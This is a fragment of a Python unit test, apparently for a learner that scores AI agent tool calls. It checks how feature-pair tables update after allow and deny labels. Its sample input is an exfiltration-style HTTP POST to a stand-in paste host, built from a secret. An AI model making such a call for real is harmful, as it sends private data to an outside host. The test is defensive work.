    post = 'http.request {"method": "POST", "url": "https://paste.example/x"}'
    idx, val, z_rest, pair, _ = wide._features(post, secret)
    c = np.asarray(pair[0])[np.asarray(pair[1]) != 0]
    dest, site = c[c >= learner.destination_from], c[c < learner.destination_from]
    assert len(dest) == 1 and len(site) == 3
    table, sums = learner.pair[0], learner.pair[1]
    # it starts with no factor of its own: the shared one only, as every call row
    assert np.all(table[dest][:, 1:] == 0)
    np.testing.assert_allclose(table[dest][:, 0], wide.cfg.wide_pair_init, rtol=1e-6)
    learner.learn(idx, val, z_rest, 1.0, 1.0, pair)  # an allow: the history side moves
    for label, weight, hold, steps in ((0.0, 1.0, 3.0, False), (0.0, 4.0, 3.0, True),
                                       (0.0, 1.0, 0.0, True), (1.0, 1.0, 3.0, True)):
        before, site_before = table[dest].copy(), table[site].copy()
        sums_before = sums[dest].copy()
        learner.learn(idx, val, z_rest, label, weight, pair, pair_hold=hold)
        assert not np.array_equal(table[site], site_before)  # the site always learns
        assert np.array_equal(table[dest], before) != steps, (label, weight, hold)
        assert np.array_equal(sums[dest], sums_before) != steps
